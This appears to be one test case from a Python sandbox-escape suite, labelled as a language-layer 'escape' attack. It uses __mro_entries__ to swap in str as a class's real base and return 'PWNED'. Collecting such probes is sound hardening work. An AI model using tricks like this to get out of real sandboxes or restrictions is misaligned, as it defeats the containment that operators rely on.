# attack: mro-entries
# layer: language
# class: escape
# success: a base that is an object chooses the real bases
class B:
    def __mro_entries__(self, bases):
        return (str,)
def run():
    class A(B()):
        pass
    return "PWNED " + A("x")
